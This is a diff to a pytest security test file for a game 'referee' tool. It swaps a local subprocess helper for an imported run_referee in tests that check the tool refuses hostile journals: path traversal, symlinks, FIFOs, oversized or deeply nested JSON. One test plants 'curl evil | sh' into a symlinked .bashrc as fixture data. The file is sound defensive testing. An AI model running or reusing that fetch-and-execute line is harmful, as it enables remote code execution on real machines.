@@ -13,22 +13,17 @@ import json
 import os
 import shutil
 import subprocess
-import sys
 import time
 from pathlib import Path
 
 import pytest
 
 from tests.helpers.league import make_league
+from tests.helpers.process import run_referee
 
 START = "2026-12-01T12:00:00Z"
 NAME = ".journal-0badc0de"
 NIKA = '[Game "nika"]\n'
-
-
-def referee(*arguments: str, timeout: float = 120) -> subprocess.CompletedProcess[str]:
-    command = [sys.executable, "-m", "referee", *arguments]
-    return subprocess.run(command, capture_output=True, text=True, timeout=timeout, env=dict(os.environ))
 
 
 def files(folder: Path) -> dict[str, bytes | str]:
@@ -57,7 +52,7 @@ def outside(tmp_path: Path) -> Path:
 def league(tmp_path: Path) -> Path:
     folder = tmp_path / "lg"
     make_league(folder, "--game", "pikemen", "--players", "2", names="Ann Bo", pair_at=START)
-    assert referee("league", "status", str(folder)).returncode == 0
+    assert run_referee("league", "status", str(folder)).returncode == 0
     return folder
 
 
@@ -84,7 +79,7 @@ def rejected(
 
 
 def runs_normally(folder: Path) -> None:
-    again = referee("league", "status", str(folder))
+    again = run_referee("league", "status", str(folder))
     assert again.returncode == 0 and again.stderr == "", again.stderr
     assert os.path.lexists(folder / (NAME + ".rejected"))  # left for the game master to look at, never read
 
@@ -112,11 +107,11 @@ def test_a_journal_naming_files_outside_the_folder_is_set_aside_by_play(
     ]
     plant(games, steps, {"0": b"overwritten\n"})
     before = files(outside)
-    ran = referee("play", str(game), "x")  # an illegal move: the lock is taken, recovery runs first
+    ran = run_referee("play", str(game), "x")  # an illegal move: the lock is taken, recovery runs first
     rejected(games, ran, outside, before)
     assert "not a name inside the folder" in ran.stderr
     assert game.read_text() == NIKA
-    again = referee("play", str(game), "d1-W")
+    again = run_referee("play", str(game), "d1-W")
     assert again.returncode == 0, again.stderr
     assert files(outside) == before
 
@@ -124,7 +119,7 @@ def test_a_journal_naming_files_outside_the_folder_is_set_aside_by_play(
 def test_a_journal_that_is_a_link_to_another_folder_is_renamed_not_followed(league: Path, outside: Path) -> None:
     (league / NAME).symlink_to(outside)
     before = files(outside)
-    ran = referee("league", "status", str(league))
+    ran = run_referee("league", "status", str(league))
     rejected(league, ran, outside, before)
     assert "symbolic link" in ran.stderr
     assert (league / (NAME + ".rejected")).is_symlink()
@@ -134,7 +129,7 @@ def test_a_journal_that_is_a_link_to_another_folder_is_renamed_not_followed(leag
 def test_a_journal_that_is_a_file_is_set_aside(league: Path, outside: Path) -> None:
     (league / NAME).write_text("{}")
     before = files(outside)
-    rejected(league, referee("league", "status", str(league)), outside, before)
+    rejected(league, run_referee("league", "status", str(league)), outside, before)
     runs_normally(league)
 
 
@@ -143,7 +138,7 @@ def test_a_commit_linked_to_dev_zero_is_never_read(league: Path, outside: Path) 
     journal.mkdir()
     (journal / "commit.json").symlink_to("/dev/zero")
     before = files(outside)
-    ran = referee("league", "status", str(league), timeout=60)
+    ran = run_referee("league", "status", str(league), timeout=60)
     rejected(league, ran, outside, before)
     assert "symbolic link" in ran.stderr
     runs_normally(league)
@@ -154,7 +149,7 @@ def test_a_commit_that_is_a_fifo_never_hangs(league: Path, outside: Path) -> Non
     journal.mkdir()
     os.mkfifo(journal / "commit.json")
     before = files(outside)
-    ran = referee("league", "status", str(league), timeout=60)
+    ran = run_referee("league", "status", str(league), timeout=60)
     rejected(league, ran, outside, before)
     assert "not a regular file" in ran.stderr
     runs_normally(league)
@@ -167,7 +162,7 @@ def test_a_commit_of_300_mb_is_refused_without_reading_it(league: Path, outside:
         commit.write(b'{"steps": [')
         commit.truncate(300 << 20)
     before = files(outside)
-    ran = referee("league", "status", str(league), timeout=60)
+    ran = run_referee("league", "status", str(league), timeout=60)
     rejected(league, ran, outside, before)
     assert "larger than 16 MiB" in ran.stderr
     runs_normally(league)
@@ -179,7 +174,7 @@ def test_a_commit_of_16_mib_and_one_byte_is_refused(league: Path, outside: Path)
     journal.mkdir()
     (journal / "commit.json").write_bytes(body + b" " * ((16 << 20) + 1 - len(body)))
     before = files(outside)
-    rejected(league, referee("league", "status", str(league)), outside, before)
+    rejected(league, run_referee("league", "status", str(league)), outside, before)
     runs_normally(league)
 
 
@@ -206,7 +201,7 @@ def test_a_malformed_commit_is_set_aside_and_the_folder_is_not_wedged(league: Pa
     plant(league, MALFORMED[shape])
     games = {path.name: path.read_bytes() for path in league.glob("*.rgn")}
     before = files(outside)
-    ran = referee("league", "status", str(league))
+    ran = run_referee("league", "status", str(league))
     rejected(league, ran, outside, before)
     assert {path.name: path.read_bytes() for path in league.glob("*.rgn")} == games, "a step was applied"
     runs_normally(league)
@@ -217,14 +212,14 @@ def test_a_commit_nested_too_deep_is_set_aside(league: Path, outside: Path) -> N
     journal.mkdir()
     (journal / "commit.json").write_text('{"steps": ' + "[" * 200_000 + "]" * 200_000 + "}")
     before = files(outside)
-    rejected(league, referee("league", "status", str(league)), outside, before)
+    rejected(league, run_referee("league", "status", str(league)), outside, before)
     runs_normally(league)
 
 
 def test_a_commit_that_is_a_folder_is_set_aside(league: Path, outside: Path) -> None:
     (league / NAME / "commit.json").mkdir(parents=True)
     before = files(outside)
-    ran = referee("league", "status", str(league))
+    ran = run_referee("league", "status", str(league))
     rejected(league, ran, outside, before)
     assert "not a regular file" in ran.stderr
     runs_normally(league)
@@ -237,7 +232,7 @@ def test_a_staged_copy_that_is_a_folder_is_set_aside(league: Path, outside: Path
     (journal / "0").mkdir()
     (journal / "0" / "inside").write_text("x")
     before = files(outside)
-    ran = referee("league", "status", str(league))
+    ran = run_referee("league", "status", str(league))
     rejected(league, ran, outside, before)
     assert game.read_bytes() == text
     runs_normally(league)
@@ -249,7 +244,7 @@ def test_a_step_through_a_link_inside_the_folder_is_refused(league: Path, outsid
     steps = [{"kind": "write", "target": "lnk/victim", "mode": 420, "staged": "0"}]
     plant(league, steps, {"0": b"overwritten\n"})
     before = files(outside)
-    ran = referee("league", "status", str(league))
+    ran = run_referee("league", "status", str(league))
     rejected(league, ran, outside, before)
     assert "symbolic link" in ran.stderr
     runs_normally(league)
@@ -259,7 +254,7 @@ def test_an_append_to_a_log_that_is_a_link_is_refused(league: Path, outside: Pat
     (league / "rc.log").symlink_to(outside / ".bashrc")
     plant(league, [{"kind": "append", "target": "rc.log", "mode": 416, "line": "curl evil | sh\n", "at": 0}])
     before = files(outside)
-    ran = referee("league", "status", str(league))
+    ran = run_referee("league", "status", str(league))
     rejected(league, ran, outside, before)
     runs_normally(league)
 
@@ -267,7 +262,7 @@ def test_an_append_to_a_log_that_is_a_link_is_refused(league: Path, outside: Pat
 def test_a_second_rejected_journal_of_the_same_name_gets_a_name_of_its_own(league: Path, outside: Path) -> None:
     (league / (NAME + ".rejected")).mkdir()
     (league / NAME).symlink_to(outside)
-    ran = referee("league", "status", str(league))
+    ran = run_referee("league", "status", str(league))
     assert ran.returncode == 2 and f"{NAME}-1.rejected" in ran.stderr, ran.stderr
     assert (league / f"{NAME}-1.rejected").is_symlink() and (league / (NAME + ".rejected")).is_dir()
     runs_normally(league)
@@ -295,7 +290,7 @@ def test_recovery_is_linear_in_its_steps(league: Path) -> None:
         steps, log = _appends(count)
         plant(league, steps)
         started = time.monotonic()
-        ran = referee("league", "status", str(league), timeout=300)
+        ran = run_referee("league", "status", str(league), timeout=300)
         timings[count] = time.monotonic() - started
         assert ran.returncode == 0, ran.stderr
         assert (league / "junk.log").read_bytes() == log
@@ -340,6 +335,6 @@ def test_an_outbox_elsewhere_is_completed_only_by_the_gateway_that_names_it(tmp_
     killed = faults.run(args, mail.as_bytes(), faults.Faulty(trace.first(f" {elsewhere}/"), "kill"))
     assert killed.code == faults.KILLED
     before = files(elsewhere)
-    other = referee("play", str(games / "g1.rgn"), "x")
+    other = run_referee("play", str(games / "g1.rgn"), "x")
     assert other.returncode == 2 and "outside the folder" in other.stderr and other.stderr.count("\n") == 1
     assert files(elsewhere) == before
